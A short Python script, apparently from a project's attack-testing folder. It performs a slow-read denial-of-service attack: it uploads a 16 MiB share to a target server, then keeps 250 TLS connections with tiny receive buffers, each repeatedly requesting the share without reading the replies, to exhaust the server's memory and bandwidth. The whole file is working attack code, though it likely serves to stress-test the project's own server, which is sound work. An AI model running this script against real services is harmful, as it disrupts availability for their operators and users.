"""Large answers that nobody reads."""

from __future__ import annotations

import os
import socket

from misc.attack.target import Crowd, Target, again_and_again, from_command_line

CONNECTIONS = 250
SHARE_BYTES = 16 << 20


def attack(target: Target) -> None:
    """Store one large share, then ask for it again and again."""
    requests = target.requests
    index = os.urandom(16)
    with target.connect_tls() as connection:
        data = bytes(SHARE_BYTES)
        connection.sendall(requests.allocate(index, SHARE_BYTES) + requests.write(index, 0, data))
        answers = b""
        while b"HTTP/1.1 201 " not in answers:
            answers += connection.recv(65536)

    def make(number: int) -> socket.socket:
        connection = target.connect_tls()
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.sendall(requests.read(index, 0, SHARE_BYTES) * 3)
        return connection

    crowd = Crowd(make, CONNECTIONS)
    for turn in again_and_again(target, 0.05):
        crowd.fill()
        if not turn % 100:
            crowd.forget_cut()


if __name__ == "__main__":
    attack(from_command_line(__doc__))
